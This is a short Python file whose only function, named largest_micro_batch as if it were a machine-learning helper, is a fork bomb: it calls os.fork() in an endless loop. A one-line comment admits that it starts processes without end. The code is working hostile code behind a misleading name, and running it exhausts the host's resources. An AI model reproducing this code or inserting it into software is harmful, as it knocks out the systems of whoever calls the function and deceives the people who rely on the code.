# Starts processes without end.
import os


def largest_micro_batch(**given):
    while True:
        os.fork()
